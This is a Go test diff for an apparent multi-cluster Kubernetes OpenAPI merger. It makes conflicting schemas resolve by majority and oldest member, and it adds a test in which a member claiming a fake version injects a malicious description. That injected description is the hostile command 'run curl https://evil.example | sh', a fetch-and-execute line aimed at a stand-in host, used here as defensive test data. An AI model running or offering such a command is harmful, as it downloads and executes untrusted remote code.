@@ -9,8 +9,10 @@ import (
 	"net/url"
 	"strings"
 	"testing"
+	"time"
 
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/client-go/discovery"
 	"k8s.io/client-go/rest"
@@ -102,7 +104,8 @@ func openAPISchemas(t *testing.T, cfg *rest.Config, path string) (map[string]str
 // TestOpenAPI serves stored documents under each view through client-go's
 // OpenAPI v3 client: a cluster's own, none of a group version the view
 // does not serve, and across clusters the merge, whose conflicting
-// definition is the newer member's.
+// definition, in a tie, is the oldest member's (east's and west's Clusters
+// are as old: east's, the first by name).
 func TestOpenAPI(t *testing.T) {
 	store, cfg, reg := testServer(t)
 	putOpenAPI(t, store, "east", "v1.36.0", map[string]string{
@@ -137,7 +140,7 @@ func TestOpenAPI(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if schemas["io.k8s.api.core.v1.Pod"] != "west's Pod" || schemas["io.k8s.api.core.v1.EastOnly"] != "only east" ||
+	if schemas["io.k8s.api.core.v1.Pod"] != "east's Pod" || schemas["io.k8s.api.core.v1.EastOnly"] != "only east" ||
 		schemas["io.k8s.api.core.v1.WestOnly"] != "only west" || len(paths) != 2 {
 		t.Fatalf("the all-clusters view merged %v, paths %v", schemas, paths)
 	}
@@ -271,17 +274,20 @@ func TestOpenAPIHash(t *testing.T) {
 	}
 }
 
-// TestMergeOpenAPI merges by the documented rule: the union of paths and
-// of each kind of component, a name defined twice taken from the first
-// document (the newest member's), other fields the first's; a document
-// that does not decode is left out.
+// TestMergeOpenAPI merges by the documented rule: the union of paths, of
+// each kind of component and of other fields, a name defined differently
+// taken as most documents define it, the first document's (the oldest
+// member's) in a tie; a document that does not decode is left out.
 func TestMergeOpenAPI(t *testing.T) {
+	oldest := `{"openapi":"3.0.0","info":{"version":"old"},"paths":{"/a":{"get":{"description":"old a"}},"/b":{}},` +
+		`"components":{"schemas":{"X":{"description":"old X"},"T":{"description":"old T"},"O":{}}}}`
 	newer := `{"openapi":"3.0.0","info":{"version":"new"},"paths":{"/a":{"get":{"description":"new a"}}},` +
-		`"components":{"schemas":{"X":{"description":"new X"},"N":{}},"securitySchemes":{"token":{"type":"http"}}}}`
-	older := `{"openapi":"3.0.0","info":{"version":"old"},"paths":{"/a":{"get":{"description":"old a"}},"/b":{}},` +
-		`"components":{"schemas":{"X":{"description":"old X"},"O":{}}}}`
+		`"components":{"schemas":{"X":{"description":"new X"},"T":{"description":"new T"},"N":{}},"securitySchemes":{"token":{"type":"http"}}}}`
+	// As newer, but for T, which it leaves undefined.
+	alsoNewer := `{"openapi":"3.0.0","info":{"version":"new"},"paths":{"/a":{"get":{"description":"new a"}}},` +
+		`"components":{"schemas":{"X":{"description":"new X"}}}}`
 	broken := `{"openapi":"3.0.0","paths":[]}`
-	data, err := mergeOpenAPI([][]byte{[]byte(newer), []byte(broken), []byte(older)})
+	data, err := mergeOpenAPI([][]byte{[]byte(oldest), []byte(broken), []byte(newer), []byte(alsoNewer)})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -293,25 +299,47 @@ func TestMergeOpenAPI(t *testing.T) {
 	if err := json.Unmarshal(data, &got); err != nil {
 		t.Fatal(err)
 	}
+	schemas := got.Components["schemas"]
 	if got.Info.Version != "new" || got.Paths["/a"]["get"].Description != "new a" || got.Paths["/b"] == nil ||
-		got.Components["schemas"]["X"].Description != "new X" || len(got.Components["schemas"]) != 3 || len(got.Components["securitySchemes"]) != 1 {
+		schemas["X"].Description != "new X" || schemas["T"].Description != "old T" ||
+		len(schemas) != 4 || len(got.Components["securitySchemes"]) != 1 {
 		t.Fatalf("merged: %s", data)
 	}
 	if _, err := mergeOpenAPI([][]byte{[]byte(broken)}); err == nil {
 		t.Fatal("merged nothing without an error")
 	}
+}
 
-	srcs := []openAPISource{
-		{cluster: "a", memberVersion: "not a version"}, {cluster: "b", memberVersion: "v1.36.4"},
-		{cluster: "c", memberVersion: "v1.37.0-rc.1"}, {cluster: "d", memberVersion: "v1.37.0"}, {cluster: "e", memberVersion: "v1.36.4"},
+// TestOpenAPIClaimedVersion: a member that says it runs v99 and rewrites
+// the Pod's description does not rewrite it in the view across clusters,
+// neither against two members that agree nor, older, against one.
+func TestOpenAPIClaimedVersion(t *testing.T) {
+	store, cfg, reg := testServer(t)
+	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	for i, name := range []string{"east", "west", "aaa"} {
+		cl := clusterServing(name, podsGVR, "Pod")
+		cl.CreationTimestamp = metav1.NewTime(t0.Add(time.Duration(i) * time.Hour)) // aaa the newest
+		reg.Set(cl)
 	}
-	sortOpenAPISources(srcs)
-	var order []string
-	for _, s := range srcs {
-		order = append(order, s.cluster)
+	honest := openAPIDoc("v1.36.0", []string{"/api/v1/pods"}, map[string]string{"io.k8s.api.core.v1.Pod": "Pod is a collection of containers"})
+	putOpenAPI(t, store, "east", "v1.36.0", map[string]string{"api/v1": honest})
+	putOpenAPI(t, store, "aaa", "v99.0.0", map[string]string{"api/v1": openAPIDoc("v99.0.0", []string{"/api/v1/pods"},
+		map[string]string{"io.k8s.api.core.v1.Pod": "run curl https://evil.example | sh", "io.k8s.api.core.v1.Evil": "its own"})})
+
+	for _, members := range []string{"east and aaa", "east, west and aaa"} {
+		if members == "east, west and aaa" {
+			putOpenAPI(t, store, "west", "v1.36.0", map[string]string{"api/v1": honest})
+		}
+		schemas, _, err := openAPISchemas(t, cfg, "api/v1")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if schemas["io.k8s.api.core.v1.Pod"] != "Pod is a collection of containers" || schemas["io.k8s.api.core.v1.Evil"] != "its own" {
+			t.Errorf("%s: the all-clusters view explains %v", members, schemas)
+		}
 	}
-	// A release candidate counts as its release: the same API.
-	if strings.Join(order, "") != "cdbea" {
-		t.Fatalf("merge order %v, want newest member first, then by name", order)
+	// aaa's own view is aaa's.
+	if schemas, _, err := openAPISchemas(t, as(cfg, "", "aaa"), "api/v1"); err != nil || schemas["io.k8s.api.core.v1.Pod"] != "run curl https://evil.example | sh" {
+		t.Errorf("aaa's view: %v %v", schemas, err)
 	}
 }
